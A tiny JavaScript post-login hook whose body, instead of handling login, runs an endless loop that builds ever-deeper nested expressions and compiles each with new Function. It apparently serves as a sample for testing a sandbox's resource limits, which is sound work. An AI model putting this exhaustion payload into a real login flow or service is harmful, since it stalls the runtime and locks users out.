exports.onExecutePostLogin = async (event, api) => {
  let source = 'x';
  for (let i = 0; ; i++) { source += '+(' + source.slice(0, 1e5) + ')'; try { new Function(source); } catch (e) { void e; } }
};
